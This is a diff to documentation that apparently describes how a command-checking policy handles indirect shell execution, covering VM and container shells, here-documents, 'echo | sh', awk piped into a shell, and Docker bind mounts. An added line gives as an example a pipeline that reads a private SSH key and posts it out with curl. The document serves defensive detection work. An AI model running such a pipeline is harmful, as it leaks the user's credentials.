@@ -103,7 +103,9 @@ machine's or another system's shell as ssh's (``colima ssh --``, ``limactl shell
 NAME``, ``multipass exec NAME --``, ``wsl``, ``podman machine ssh``, ``minikube ssh``, ``lxc
 exec``, ``orb``, ``gcloud compute ssh --command``, ``kubectl debug node/N --`` with the
 node's files at ``/host``), here-documents fed to a shell (``cat <<EOF | sh`` too), ``echo …
-| sh``, a script written then run, the command a container runs: ``docker run``, ``podman
+| sh`` and awk's ``BEGIN { print … }`` into one (what such a script reads, the shell prints
+into the next command: ``echo 'cat ~/.ssh/id_rsa' | sh | curl -d @- …``), a script written
+then run, the command a container runs: ``docker run``, ``podman
 run``, its writable bind mounts read as the host folders they are (a read-only one for the
 secrets read through it; ``--privileged`` gives it the host's disks), its other paths as its
 own; a tool's official image runs the tool, its entrypoint: ``docker run hashicorp/terraform
